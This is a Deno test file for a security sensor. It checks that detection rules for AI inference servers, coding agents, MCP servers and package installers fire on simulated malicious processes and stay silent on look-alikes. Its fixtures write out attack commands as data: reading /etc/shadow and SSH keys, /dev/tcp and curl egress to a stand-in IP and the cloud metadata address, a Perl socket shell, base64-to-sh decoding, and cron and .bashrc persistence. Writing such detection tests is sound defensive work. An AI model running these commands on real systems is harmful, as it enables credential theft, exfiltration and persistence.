import { assertEquals } from "@std/assert";
import { type Deed, seenOf } from "../support/deeds.ts";
import { canLoadSensor } from "../support/host.ts";

const ignore = !canLoadSensor();
const CLAUDE = "node_modules/@anthropic-ai/claude-code/cli.js";
const MCP = "@modelcontextprotocol/server-git";

/** A shell on the client's end of a connection to itself. */
const SHELL_ON_SOCKET = "$l = IO::Socket::INET->new(Listen => 1, LocalAddr => q(127.0.0.1)); " +
  "$c = IO::Socket::INET->new(PeerAddr => q(127.0.0.1), PeerPort => $l->sockport); " +
  "open STDIN, q(<&), $c; open STDOUT, q(>&), $c; exec q(/bin/sh), q(-c), q(:)";

/** Starts a program, attaches to it as a debugger does (PTRACE_ATTACH), and ends it. */
function attach(program: string): string {
  // A number, not text: perl hands over the address of a text.
  const call = "$p = $ARGV[0] + 0; syscall(101, 16, $p, 0, 0) == 0 or die; waitpid($p, 0)";
  // Once it is no shell's image any more.
  const isStarted = '[ "$(readlink /proc/$!/exe)" != "$(readlink /proc/$$/exe)" ]';
  return `${program} & until ${isStarted}; do :; done; perl -e '${call}' $!; kill -9 $!; true`;
}

/** What each rule has to see. */
const DEEDS: readonly Deed[] = [
  { rule: "ai/inference_server_shell", program: "llama-server", script: "bash -c ': id'; true" },
  {
    rule: "ai/inference_server_downloader",
    program: "llama-server",
    // Its role alone tells whose grandchild it is.
    script: "bash -c 'bash -c \"$DIR/curl http://203.0.113.7/x; true\"; true'; true",
  },
  { rule: "ai/inference_server_persistence", program: "ollama", script: ["$CRON"] },
  { rule: "ai/inference_server_reads_secrets", program: "ollama", script: ["/etc/shadow"] },
  {
    rule: "ai/ai_workload_metadata",
    program: "llama-server",
    script: "$DIR/timeout 2 $DIR/llama-server -c ': >/dev/tcp/169.254.169.254/80'; true",
  },
  { rule: "ai/coin_miner_command_line", script: ": stratum+tcp://pool.example:3333" },
  { rule: "ai/coding_agent_guard_rails_off", script: ": claude --dangerously-skip-permissions" },
  {
    rule: "ai/coding_agent_from_installer",
    script: "bash -c ': codex exec look around'; true",
    called: "npm install",
  },
  { rule: "ai/coding_agent_reads_credentials", script: "cat /etc/shadow; true", called: CLAUDE },
  {
    rule: "ai/agent_configuration_written_by_command",
    script: "bash -c 'echo {} > $DIR/.claude/settings.json'; true",
    called: "postinstall.js",
  },
  { rule: "ai/coding_agent_opens_persistence", script: "cat $CRON; true", called: CLAUDE },
  {
    rule: "ai/coding_agent_persistence_command",
    script: "bash -c ': \"echo x >> .bashrc\"'; true",
    called: CLAUDE,
  },
  { rule: "ai/mcp_server_shell_injection", script: "bash -c ': ls; curl x'; true", called: MCP },
  { rule: "ai/installer_brought_runtime", script: "$DIR/bun x.js; true", called: "preinstall.js" },
  {
    rule: "ai/path_file_written_by_command",
    script: ": echo import os > lib/site-packages/a.pth",
  },
  {
    rule: "ai/installer_reads_credentials",
    script: "cat /etc/shadow; true",
    called: "npm install",
  },
  { rule: "ai/agent_decoded_payload", script: "bash -c ': base64 -d x | sh'; true", called: MCP },
  {
    rule: "ai/ai_shell_on_socket",
    script: `$PUBLIC $DIR/tritonserver -MIO::Socket::INET -e '${SHELL_ON_SOCKET}'`,
  },
  {
    rule: "ai/ai_service_reached_from_outside",
    script: "$PUBLIC $DIR/tritonserver $NETWORK serve 203.0.113.7 10",
  },
  {
    rule: "ai/coin_miner_pool_name",
    // A name of its own and no host below it.
    script: "$PUBLIC perl $NETWORK ask xmrpool.eu",
  },
  {
    rule: "ai/llm_api_by_undeclared_program",
    script: "$PUBLIC perl $NETWORK ask api.openai.com",
  },
  { rule: "ai/ai_process_attached", script: attach("$DIR/llama-server -c 'sleep 9; :'") },
  { rule: "ai/sensor_stopped", script: "kill -STOP $SENSOR; kill -CONT $SENSOR" },
  {
    rule: "ai/sensor_files_changed",
    script: "echo >/etc/immune/.$UNIQUE; rm /etc/immune/.$UNIQUE",
  },
];

/** What the rules of rules/costly have to see. */
const COSTLY_DEEDS: readonly Deed[] = [
  {
    rule: "costly/ai_process_reached_into",
    script: "bash -c 'exec $DIR/llama-server -c \"sleep 9; :\"' & p=$!; " +
      "until cat /proc/$p/cmdline | grep -q llama; do :; done; " +
      "for i in 1 2 3 4 5 6 7 8; do cat /proc/$p/environ; sleep 0.2; done; kill $p; true",
  },
  {
    rule: "costly/ai_workload_privilege_used",
    program: "llama-server",
    script: "unshare --mount /bin/sh -c 'mount -t tmpfs none $DIR/.ssh'; true",
  },
  {
    rule: "costly/memory_file_mapped",
    script: "perl -e '$n = (`uname -m` =~ /x86/) ? 319 : 279; $m = $n == 319 ? 9 : 222; " +
      "$s = q(x); syscall($m, 0, 4096, 5, 1, syscall($n, $s, 0), 0)'; true",
  },
  { rule: "costly/agent_configuration_changed", script: "echo {} > $DIR/.mcp.json" },
  { rule: "costly/path_file_created", script: "echo > $DIR/site-packages/a.pth" },
  {
    rule: "costly/inference_server_writes_outside",
    program: "llama-server",
    script: "echo > $OPT/x",
  },
  {
    rule: "costly/coding_agent_reads_credentials_anywhere",
    program: ".local/share/claude/versions/2.0.0",
    script: "cat $DIR/.ssh/id_rsa; true",
  },
];

/** What looks like a deed, and is none: the rule must be silent. */
const NEAR_MISSES: readonly Deed[] = [
  {
    rule: "ai/inference_server_shell",
    program: "llama-server",
    script: "bash -c 'uname -a'; sh -c 'ldconfig -p' >/dev/null; true",
  },
  {
    rule: "ai/inference_server_downloader",
    program: "llama-server",
    script: "$DIR/curl http://127.0.0.1:8080/health; true",
  },
  { rule: "ai/coding_agent_guard_rails_off", script: ": claude --permission-mode plan" },
  { rule: "ai/coding_agent_reads_credentials", script: "cat /etc/passwd; true", called: CLAUDE },
  { rule: "ai/mcp_server_shell_injection", script: "bash -c 'ls | wc -l'; true", called: MCP },
  { rule: "ai/installer_reads_credentials", script: "cat /etc/hosts; true", called: "npm install" },
  { rule: "ai/agent_decoded_payload", script: "bash -c ': base64 -d x'; true", called: MCP },
  {
    rule: "ai/ai_shell_on_socket",
    script: `$PUBLIC perl -MIO::Socket::INET -e '${SHELL_ON_SOCKET}'`,
  },
  {
    rule: "ai/ai_shell_on_socket",
    // As runtimes give it to their children: a pair that leads nowhere else.
    script: "$DIR/tritonserver -MSocket -e 'socketpair($a, $b, AF_UNIX, SOCK_STREAM, 0); " +
      "open STDIN, q(<&), $a; open STDOUT, q(>&), $a; exec q(/usr/bin/perl), q(-e), q(1)'",
  },
  {
    rule: "ai/ai_service_reached_from_outside",
    script: "$PUBLIC $DIR/tritonserver $NETWORK serve 127.0.0.1 10",
  },
  {
    rule: "ai/coin_miner_pool_name",
    script: "$PUBLIC perl $NETWORK ask huggingface.co; $PUBLIC perl $NETWORK ask notxmrpool.eu",
  },
  { rule: "ai/llm_api_by_undeclared_program", script: "$PUBLIC perl $NETWORK ask a.example" },
  {
    rule: "ai/llm_api_by_undeclared_program",
    script: "$PUBLIC $DIR/tritonserver $NETWORK ask api.openai.com",
  },
  { rule: "ai/ai_process_attached", script: attach("$DIR/timeout 9 sleep 9") },
  { rule: "ai/sensor_stopped", script: "kill -CONT $SENSOR; kill -0 $SENSOR" },
  { rule: "ai/sensor_files_changed", script: "cat /etc/immune/immune.toml 2>/dev/null; true" },
];

const PACKS = ["ai", "correlations", "linux"];
const AGENT = ".local/share/claude/versions/2.0.0";

/** What correlations have to see. */
const SEQUENCES: readonly Deed[] = [
  {
    rule: "correlations/agent_secret_then_egress",
    program: AGENT,
    script: "cat /etc/shadow; timeout 2 bash -c ': >/dev/tcp/203.0.113.7/443'; true",
  },
  {
    rule: "correlations/model_load_then_execution",
    program: "python3",
    script: ": <$MODEL; bash -c ': id'; true",
  },
  {
    rule: "correlations/bulk_egress",
    script: "$PUBLIC $DIR/socat $NETWORK serve 203.0.113.7 1080000000",
  },
  {
    rule: "correlations/installer_runtime_sequence",
    script: "tar --version; $DIR/bun x.js; true",
    called: "npm install",
  },
];

/** The same parts, in other relations. */
const OTHER_SEQUENCES: readonly Deed[] = [
  {
    rule: "correlations/agent_secret_then_egress",
    program: AGENT,
    script: "timeout 0.2 bash -c ': >/dev/tcp/203.0.113.7/443'; cat /etc/shadow; true",
  },
  { rule: "correlations/model_load_then_execution", program: "python3", script: ": <$MODEL" },
  {
    rule: "correlations/model_load_then_execution",
    program: "python3",
    script: "bash -c ': id'; true",
  },
  {
    rule: "correlations/bulk_egress",
    script: "$PUBLIC $DIR/socat $NETWORK serve 203.0.113.7 1000000",
  },
];

Deno.test({
  name: "sensor: AI pack: real processes raise the alert of each rule that records can feed",
  ignore,
  fn: async () => {
    const seen = await seenOf(DEEDS, { packs: PACKS });
    assertEquals(DEEDS.filter(({ rule }) => !seen.has(rule)), []);
  },
});

Deno.test({
  name: "sensor: AI pack: real processes that only look alike raise none",
  ignore,
  fn: async () => assertEquals(await seenOf(NEAR_MISSES, { packs: PACKS }), new Set()),
});

Deno.test({
  name: "sensor: costly pack: real processes raise its alerts in the wide stream",
  ignore,
  fn: async () => {
    const options = { packs: ["ai", "costly"], args: ["--sensor-open", "wide"] };
    const seen = await seenOf(COSTLY_DEEDS, options);
    assertEquals(COSTLY_DEEDS.filter(({ rule }) => !seen.has(rule)), []);
  },
});

Deno.test({
  name: "sensor: correlations: real processes raise the alerts of sequences",
  ignore,
  fn: async () => {
    const seen = await seenOf(SEQUENCES, { packs: PACKS });
    assertEquals(SEQUENCES.filter(({ rule }) => !seen.has(rule)), []);
  },
});

Deno.test({
  name: "sensor: correlations: real processes in another order, or alone, raise none",
  ignore,
  fn: async () => assertEquals(await seenOf(OTHER_SEQUENCES, { packs: PACKS }), new Set()),
});
